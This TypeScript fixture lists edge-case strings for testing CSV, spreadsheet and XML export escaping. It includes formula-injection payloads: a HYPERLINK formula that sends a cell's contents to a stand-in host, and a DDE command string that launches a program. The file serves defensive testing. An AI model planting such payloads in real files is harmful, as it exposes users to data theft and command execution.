/** Texts that spreadsheets, CSV or XML take for something else. */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.com/?"&A1,"press")',
  '+962 7 9000 0000',
  '-5',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  "'already quoted",
  "=cmd|'/c calc'!A1",
  'a, b',
  'He said "yes"',
  '"',
  'two\nlines',
  'two\r\nlines',
  'a\rb',
  '  spaces around  ',
  '007',
  '00962790000000',
  '1e5',
  '12345678901234567890',
  'TRUE',
  '2026-01-31',
  'أحمد حدّاد',
  '\u200fشارع الرينبو\u200e 12',
  '\u202eevil\u202c',
  'Café ☕️ 👩‍👩‍👧 🇯🇴',
  '<b>&amp;</b>',
  ']]>',
  '_x0041_',
  '_x005F_',
  'x_',
  ';=1+1',
  'x'.repeat(5000),
];

/** Not stored by any release that checks its texts, but by what wrote past it. */
export const brokenTexts: readonly string[] = ['bell\u0007', 'nul\u0000', 'half \ud83d of a pair', '\uffff'];

/** Those that a cell of CSV begins with a `'` for. */
export const calculated: readonly string[] = hostileTexts.filter((text) => /^\s*[=+\-@＝＋－＠]/u.test(text));
